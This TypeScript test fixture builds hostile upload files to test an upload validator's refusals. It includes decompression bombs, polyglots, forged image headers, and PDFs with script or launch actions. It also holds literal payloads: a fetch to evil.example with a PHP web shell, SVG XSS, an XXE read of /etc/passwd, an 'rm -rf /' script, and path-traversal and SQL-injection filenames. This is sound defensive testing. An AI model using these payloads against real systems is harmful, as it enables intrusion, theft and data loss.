import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { pdfOf } from './pdf.ts'
import { pngChunk, pngHeader, pngStart } from '../../scripts/pictures/pngChunk.ts'

/**
 * A file that somebody sends to do harm. `expected`: the code of its refusal; null if only its pixels may
 * survive.
 */
export type HostileFile = { name: string; bytes: Buffer; expected: string | null }

export const payload = '<script>fetch("//evil.example")</script><?php system($_GET[0]); ?>'
const script = Buffer.from(payload)
const wrongKind = 'upload.wrongKind'

/** A whole photograph, as a phone would send it. */
export const photo = (kind: 'png' | 'jpeg', width = 640, height = 480): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: '#8899aa' } })
    .toFormat(kind)
    .toBuffer()

/** A small file that unpacks to `width` by `height` pixels. */
const pngBomb = (width: number, height: number): Buffer =>
  Buffer.concat([
    pngStart,
    pngHeader(width, height, { colour: 2 }),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1_000_000))),
    pngChunk('IEND', Buffer.alloc(0)),
  ])

/** A segment of a JPEG, right behind its start. */
const withSegment = (jpeg: Buffer, marker: number, data: Buffer): Buffer => {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(data.length + 2)
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker]), length, data, jpeg.subarray(2)])
}
const withChunk = (png: Buffer, type: string, data: Buffer): Buffer =>
  Buffer.concat([png.subarray(0, 33), pngChunk(type, data), png.subarray(33)])

const otherFormats: Readonly<Record<string, Buffer>> = {
  svg: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${payload}</svg>`),
  svgWithXml: Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
  html: Buffer.from(`<!doctype html><html>${payload}</html>`),
  gif: Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;', 'latin1'),
  webp: Buffer.from('RIFF\u0024\u0000\u0000\u0000WEBPVP8 ', 'latin1'),
  heic: Buffer.from('\u0000\u0000\u0000\u0018ftypheic', 'latin1'),
  tiff: Buffer.from('II*\u0000\u0008\u0000\u0000\u0000', 'latin1'),
  bmp: Buffer.from('BM\u0000\u0000\u0000\u0000', 'latin1'),
  zip: Buffer.from('PK\u0003\u0004evil.exe', 'latin1'),
  elf: Buffer.from('\u007fELF\u0002\u0001', 'latin1'),
  exe: Buffer.from('MZ\u0090\u0000', 'latin1'),
  script: Buffer.from('#!/bin/sh\nrm -rf /\n'),
  postscript: Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
  mvg: Buffer.from("push graphic-context\nimage over 0,0 0,0 'https://evil.example'"),
  zeros: Buffer.alloc(2_000),
  text: Buffer.from('my passport'),
}
const disguises = [
  'passport.png',
  'passport.jpg',
  'passport.pdf',
  '../../../etc/passwd.pdf',
  'a\u0000.pdf',
  '..\\..\\evil.svg.png',
  `${'x'.repeat(240)}.pdf`,
]

const activeObjects: Readonly<Record<string, string>> = {
  script: '<</S/JavaScript/JS(app.alert(1))>>',
  hexScript: '<</S/J#61v#61Script>>',
  launch: '<</S/Launch/F(cmd.exe)>>',
  embedded: '<</Type/EmbeddedFile>>',
  xfa: '<</XFA[]>>',
  submit: '<</S/SubmitForm/F(//evil.example)>>',
  rich: '<</Subtype/RichMedia>>',
}
function pdfWith(objects: string): Buffer {
  const text = pdfOf(900).toString('latin1').replace('4 0 obj', `${objects}\n4 0 obj`)
  return Buffer.from(text.replace(/startxref\n\d+/, `startxref\n${text.indexOf('xref\n')}`), 'latin1')
}

const packedScript = deflateSync(Buffer.from('9 0 <</S/JavaScript/JS(app.alert(1))>>')).toString('latin1')
const hexScript = Buffer.from('9 0 <</S/JavaScript>>').toString('hex')
const objectStream = (filter: string, data: string): Buffer =>
  pdfWith(`5 0 obj<</Type/ObjStm/Filter${filter}>>stream\n${data}\nendstream endobj`)

/** PDFs that no viewer can be sure about, begin with another file, or hide their scripts. */
function brokenPdfs(): HostileFile[] {
  const whole = pdfOf(900).toString('latin1')
  const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')
  const broken: Readonly<Record<string, Buffer>> = {
    'header-only': latin1('%PDF-1.7\n%%EOF'),
    'no-table': latin1(whole.replace(/startxref\n\d+/, '')),
    'table-elsewhere': latin1(whole.replace(/startxref\n\d+/, 'startxref\n999999')),
    'table-at-start': latin1(whole.replace(/startxref\n\d+/, 'startxref\n0')),
    'no-pages': latin1(whole.replace('/Type/Page/Parent', '/Type/Pags/Parent')),
    'unknown-version': latin1(whole.replace('%PDF-1.7', '%PDF-9.9')),
    'no-end': latin1(whole.replace('%%EOF', '')),
    'page-first': latin1(`<html>${payload}</html>${whole}`),
    'gif-first': latin1(`GIF89a;${whole}`),
    'zip-first': latin1(`PK\u0003\u0004${whole}`),
    'hex-objects': objectStream('/ASCIIHexDecode', hexScript),
    'lzw-objects': objectStream('/LZWDecode', packedScript),
    'twice-packed': objectStream('[/FlateDecode/FlateDecode]', deflateSync(Buffer.from(packedScript, 'latin1')).toString('latin1')),
    'predicted-objects': objectStream('/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>', packedScript),
    'string-before-objects': objectStream('/FlateDecode/Pad(1 0 obj)', packedScript),
    'far-dictionary': objectStream(`/FlateDecode/Pad(${'a'.repeat(5_000)})`, packedScript),
    'escaped-name': pdfWith(`5 0 obj<</Type/Obj#53tm/Filter/FlateDecode>>stream\n${packedScript}\nendstream endobj`),
    'damaged-objects': objectStream('/FlateDecode', packedScript.slice(0, -8)),
  }
  const files = Object.entries(broken).map(([name, bytes]): HostileFile => ({ name: `${name}.pdf`, bytes, expected: wrongKind }))
  return [...files, { name: 'packed-script.pdf', bytes: objectStream('/FlateDecode', packedScript), expected: 'upload.activePdf' }]
}

/** Pictures whose headers lie about their size or their parts. */
function forgedPictures(png: Buffer, jpeg: Buffer): HostileFile[] {
  const changed = (bytes: Buffer, at: number, ...values: number[]): Buffer => {
    const copy = Buffer.from(bytes)
    copy.set(values, at)
    return copy
  }
  // The start of a frame: marker, length, precision, height, width.
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  const zipBomb = deflateSync(Buffer.alloc(40_000_000))
  const forged: Readonly<Record<string, readonly [Buffer, string | null]>> = {
    'tall.jpg': [changed(jpeg, frame + 5, 0xff, 0xdc, 0xff, 0xdc), 'request.tooLarge'],
    'no-height.jpg': [changed(jpeg, frame + 5, 0, 0), wrongKind],
    'no-components.jpg': [changed(jpeg, frame + 9, 0), wrongKind],
    'endless-segment.jpg': [changed(jpeg, 4, 0xff, 0xff), wrongKind],
    'no-tables.jpg': [Buffer.concat([jpeg.subarray(0, 2), jpeg.subarray(frame)]), wrongKind],
    'wrong-sum.png': [changed(png, 29, 1, 2, 3, 4), wrongKind],
    'wrong-data-sum.png': [changed(png, png.length - 16, 1, 2, 3, 4), wrongKind],
    'endless-chunk.png': [changed(png, 33, 0x7f, 0xff, 0xff, 0xff), wrongKind],
    'no-data.png': [Buffer.concat([pngStart, pngHeader(640, 480, { colour: 2 }), pngChunk('IEND', Buffer.alloc(0))]), wrongKind],
    'two-headers.png': [withChunk(png, 'IHDR', pngHeader(640, 480, { colour: 2 }).subarray(8, 21)), wrongKind],
    'unknown-colours.png': [changed(png, 25, 7), wrongKind],
    'text-bomb.png': [withChunk(png, 'zTXt', Buffer.concat([Buffer.from('a\0\0'), zipBomb])), null],
    'profile-bomb.png': [withChunk(png, 'iCCP', Buffer.concat([Buffer.from('a\0\0'), zipBomb])), null],
    'animated.png': [withChunk(png, 'acTL', Buffer.from([0, 0, 0xff, 0xff, 0, 0, 0, 0])), null],
  }
  return Object.entries(forged).map(([name, [bytes, expected]]) => ({ name, bytes, expected }))
}

/** Names that lead out of a folder, read as another name, or end as a program. */
const evilNames = [
  '../../../etc/cron.d/evil.jpg',
  '..\\..\\web.config.jpg',
  '/etc/passwd.jpg',
  'C:\\Windows\\evil.jpg',
  '%2e%2e%2fevil.jpg',
  'evil.php.jpg',
  'gpj.\u202eexe.jpg',
  '.htaccess',
  'con.jpg',
  '<img src=x onerror=alert(1)>.jpg',
  "'; drop table upload; --.jpg",
  '🪪.jpg',
]

/** Cuts a file at many places: each piece ends where a program least expects it. */
const cuts = (name: string, whole: Buffer, count: number): HostileFile[] =>
  Array.from({ length: count }, (_none, index) => {
    const length = Math.max(8, Math.floor(((index + 1) * (whole.length - 1)) / (count + 1)))
    return { name: `${name}-cut-${length}`, bytes: whole.subarray(0, length), expected: wrongKind }
  })

/**
 * Generates hostile files of every sort: other formats by false names, cut and damaged ones, bombs, active
 * PDFs, and two files in one, and names that lead elsewhere.
 */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [png, jpeg, pdf] = [await photo('png'), await photo('jpeg'), pdfOf(3_000)]
  const files: HostileFile[] = []
  for (const bytes of Object.values(otherFormats))
    for (const name of disguises)
      // No text of a request may have that character.
      files.push({ name, bytes, expected: name.includes('\u0000') ? 'request.malformed' : wrongKind })
  files.push(...cuts('a.png', png, 20), ...cuts('a.jpg', jpeg, 20), ...cuts('a.pdf', pdf, 20))
  for (const [kind, whole] of Object.entries({ png, jpeg, pdf })) {
    for (const [tail, bytes] of Object.entries({ script, zip: otherFormats['zip']!, pdf, png, svg: otherFormats['svg']! }))
      if (tail !== kind) files.push({ name: `${kind}-then-${tail}`, bytes: Buffer.concat([whole, bytes]), expected: wrongKind })
    files.push({ name: `first-bytes-of-${kind}`, bytes: Buffer.concat([whole.subarray(0, 8), script]), expected: wrongKind })
  }
  for (const side of [20_000, 60_000, 1_000_000, 2_147_483_647])
    files.push({ name: `bomb-${side}.png`, bytes: pngBomb(side, side), expected: side < 2_000_000 ? 'request.tooLarge' : wrongKind })
  files.push({ name: 'wide-bomb.png', bytes: pngBomb(65_000, 1_000), expected: 'request.tooLarge' })
  files.push({ name: 'half-empty.png', bytes: pngBomb(3_000, 3_000), expected: wrongKind })
  files.push({ name: 'point.png', bytes: await photo('png', 1, 1), expected: 'upload.tooSmall' })
  for (const [name, objects] of Object.entries(activeObjects))
    files.push({ name: `${name}.pdf`, bytes: pdfWith(`5 0 obj${objects}endobj`), expected: 'upload.activePdf' })
  files.push({ name: 'locked.pdf', bytes: pdfWith('5 0 obj<</Encrypt 6 0 R>>endobj'), expected: 'upload.lockedPdf' })
  files.push({ name: 'long.pdf', bytes: pdfWith('<</Type/Page>>'.repeat(200)), expected: 'upload.tooManyPages' })
  const bomb = deflateSync(Buffer.alloc(40_000_000)).toString('latin1')
  files.push({
    name: 'bomb.pdf',
    bytes: pdfWith(`5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n${bomb}\nendstream endobj`),
    expected: wrongKind,
  })
  files.push(...brokenPdfs(), ...forgedPictures(png, jpeg))
  files.push({ name: 'empty.jpg', bytes: Buffer.alloc(0), expected: 'upload.empty' })
  files.push({
    name: 'large.jpg',
    bytes: Buffer.concat([jpeg, Buffer.alloc(10 * 1024 * 1024 + 1 - jpeg.length)]),
    expected: 'request.tooLarge',
  })
  // A whole picture is kept, and its name is not: files are stored under names of ours.
  for (const name of evilNames) files.push({ name, bytes: jpeg, expected: null })
  // Whole pictures that carry something besides their pixels: only the pixels are kept.
  for (const marker of [0xe1, 0xe2, 0xed, 0xfe])
    files.push({ name: `segment-${marker}.jpg`, bytes: withSegment(jpeg, marker, script), expected: null })
  for (const type of ['tEXt', 'evIl', 'eXIf'])
    files.push({ name: `chunk-${type}.png`, bytes: withChunk(png, type, script), expected: null })
  return files
}
